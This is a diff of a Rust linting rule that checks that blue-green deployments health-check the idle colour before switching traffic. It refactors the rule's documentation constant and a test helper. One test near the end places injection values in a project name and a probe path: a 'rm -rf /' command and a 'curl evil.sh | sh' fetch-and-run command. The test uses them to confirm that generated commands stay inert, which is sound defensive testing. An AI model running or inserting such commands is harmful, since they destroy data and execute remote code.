@@ -6,34 +6,6 @@ use crate::rules::{Area, Context, Fix, FixSafety, Rule, RuleDoc, Severity, Viola
 
 pub struct BlueGreenVerifyBeforeSwitch;
 
-static DOC: RuleDoc = RuleDoc {
-    id: "ROLLOUT-005",
-    name: "blue-green-verify-before-switch",
-    severity: Severity::Medium,
-    area: Area::Rollout,
-    title: "Blue-green checks the idle colour before traffic moves to it",
-    what: "With blue-green, a deploy command that switches traffic (`kubectl patch service` on \
-           the selector, `--set blueGreen.activeColor=…`, `kubectl argo rollouts promote`) is \
-           preceded, after the idle colour was deployed, by a health check of that colour \
-           through its own Service or host (the chart's `<release>-preview` Service, a \
-           `green.` host) that fails the job when the colour is unhealthy: `curl -f` or `wget`, \
-           without `|| true`. The check may also run in a job the switching job waits for. \
-           Slipway's generated deploy only updates the idle colour and leaves the switch to a \
-           values change (README), so it never switches unchecked.",
-    why: "The point of blue-green is that the new version is tested at full size before any \
-          user reaches it. Switching without looking sends all traffic at once to a colour \
-          that may not even start, which is a worse outage than a rolling update would cause.",
-    incorrect: "- helm upgrade app charts/app --atomic --wait\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
-    correct: "- helm upgrade app charts/app --atomic --wait\n- kubectl port-forward service/app-preview 18080:80 & … curl -fsS http://127.0.0.1:18080/health/readiness …\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
-    fix: "Inserts, before the switching command, a check of the generated chart's preview \
-          Service (Slipway's release and namespace names; port-forward and `curl -fsS` of the \
-          readiness path) that fails the job on an error. A command that deploys and switches \
-          at once has to be split by hand.",
-    source: "000 · Deployment Strategies › Blue-Green Deployment (\"Test green\"); 004 · \
-             Deployment Strategies › Blue-Green (\"Full environment testing before switch\")",
-    equivalents: &[],
-};
-
 /// Whether a simple command moves traffic to the other colour.
 fn switches(segment: &str) -> bool {
     let Some((tool, args)) = tool_and_args(segment) else {
@@ -138,9 +110,33 @@ fn unchecked_switches(design: &Design) -> Vec<(usize, usize)> {
 }
 
 impl Rule for BlueGreenVerifyBeforeSwitch {
-    fn doc(&self) -> &'static RuleDoc {
-        &DOC
-    }
+    const DOC: RuleDoc = RuleDoc {
+        id: "ROLLOUT-005",
+        name: "blue-green-verify-before-switch",
+        severity: Severity::Medium,
+        area: Area::Rollout,
+        title: "Blue-green checks the idle colour before traffic moves to it",
+        what: "With blue-green, a deploy command that switches traffic (`kubectl patch service` on \
+               the selector, `--set blueGreen.activeColor=…`, `kubectl argo rollouts promote`) is \
+               preceded, after the idle colour was deployed, by a health check of that colour \
+               through its own Service or host (the chart's `<release>-preview` Service, a \
+               `green.` host) that fails the job when the colour is unhealthy: `curl -f` or `wget`, \
+               without `|| true`. The check may also run in a job the switching job waits for. \
+               Slipway's generated deploy only updates the idle colour and leaves the switch to a \
+               values change (README), so it never switches unchecked.",
+        why: "The point of blue-green is that the new version is tested at full size before any \
+              user reaches it. Switching without looking sends all traffic at once to a colour \
+              that may not even start, which is a worse outage than a rolling update would cause.",
+        incorrect: "- helm upgrade app charts/app --atomic --wait\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
+        correct: "- helm upgrade app charts/app --atomic --wait\n- kubectl port-forward service/app-preview 18080:80 & … curl -fsS http://127.0.0.1:18080/health/readiness …\n- helm upgrade app charts/app --reuse-values --set blueGreen.activeColor=green",
+        fix: "Inserts, before the switching command, a check of the generated chart's preview \
+              Service (Slipway's release and namespace names; port-forward and `curl -fsS` of the \
+              readiness path) that fails the job on an error. A command that deploys and switches \
+              at once has to be split by hand.",
+        source: "000 · Deployment Strategies › Blue-Green Deployment (\"Test green\"); 004 · \
+                 Deployment Strategies › Blue-Green (\"Full environment testing before switch\")",
+        equivalents: &[],
+    };
 
     fn check(&self, context: &Context) -> Vec<Violation> {
         let design = context.design;
@@ -171,6 +167,16 @@ impl Rule for BlueGreenVerifyBeforeSwitch {
             safety: FixSafety::Safe,
             apply,
         })
+    }
+
+    #[cfg(test)]
+    fn failing_examples() -> Vec<Design> {
+        let mut design = super::with_strategy(RolloutStrategy::BlueGreen);
+        design.pipeline.jobs[5].commands = vec![
+            "helm upgrade --install app charts/app --namespace app --atomic --wait".into(),
+            "kubectl patch service app --namespace app -p '{\"spec\":{\"selector\":{\"version\":\"green\"}}}'".into(),
+        ];
+        vec![design]
     }
 }
 
@@ -274,16 +280,6 @@ fn apply(design: &mut Design) {
 }
 
 #[cfg(test)]
-pub(super) fn failing_examples() -> Vec<Design> {
-    let mut design = super::with_strategy(RolloutStrategy::BlueGreen);
-    design.pipeline.jobs[5].commands = vec![
-        "helm upgrade --install app charts/app --namespace app --atomic --wait".into(),
-        "kubectl patch service app --namespace app -p '{\"spec\":{\"selector\":{\"version\":\"green\"}}}'".into(),
-    ];
-    vec![design]
-}
-
-#[cfg(test)]
 mod tests {
     use super::*;
     use crate::rules::support::{fields, preset};
@@ -296,7 +292,7 @@ mod tests {
         )
         .is_empty());
         assert!(fields(&BlueGreenVerifyBeforeSwitch, &preset("node-api")).is_empty());
-        let mut rolling = failing_examples().remove(0);
+        let mut rolling = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         rolling.kubernetes.rollout.strategy = RolloutStrategy::Rolling;
         assert!(fields(&BlueGreenVerifyBeforeSwitch, &rolling).is_empty());
     }
@@ -304,16 +300,16 @@ mod tests {
     #[test]
     fn fails_when_the_switch_is_not_preceded_by_a_check() {
         assert_eq!(
-            fields(&BlueGreenVerifyBeforeSwitch, &failing_examples()[0]),
+            fields(&BlueGreenVerifyBeforeSwitch, &BlueGreenVerifyBeforeSwitch::failing_examples()[0]),
             ["pipeline.jobs[5].commands[1]"]
         );
-        let mut swallowed = failing_examples().remove(0);
+        let mut swallowed = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         swallowed.pipeline.jobs[5].commands.insert(
             1,
             "curl -fsS https://green.example.com/health || true".into(),
         );
         assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &swallowed).len(), 1);
-        let mut combined = failing_examples().remove(0);
+        let mut combined = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         combined.pipeline.jobs[5].commands =
             vec!["helm upgrade app charts/app --atomic --set blueGreen.activeColor=green".into()];
         assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &combined).len(), 1);
@@ -321,7 +317,7 @@ mod tests {
 
     #[test]
     fn a_check_before_the_deploy_does_not_count_but_one_after_it_does() {
-        let mut design = failing_examples().remove(0);
+        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         let check = "curl -fsS https://green.example.com/health".to_owned();
         design.pipeline.jobs[5].commands.insert(0, check.clone());
         assert_eq!(fields(&BlueGreenVerifyBeforeSwitch, &design).len(), 1);
@@ -331,7 +327,7 @@ mod tests {
 
     #[test]
     fn the_fix_inserts_a_failing_preview_check() {
-        let mut design = failing_examples().remove(0);
+        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         apply(&mut design);
         let commands = &design.pipeline.jobs[5].commands;
         assert_eq!(commands.len(), 3);
@@ -351,7 +347,7 @@ mod tests {
 
     #[test]
     fn a_hostile_name_or_path_stays_one_inert_command() {
-        let mut design = failing_examples().remove(0);
+        let mut design = BlueGreenVerifyBeforeSwitch::failing_examples().remove(0);
         design.project.name = "x\"; rm -rf / #".into();
         design.kubernetes.probes.readiness.path = "/health'; curl evil.sh | sh; '".into();
         let check = preview_check(
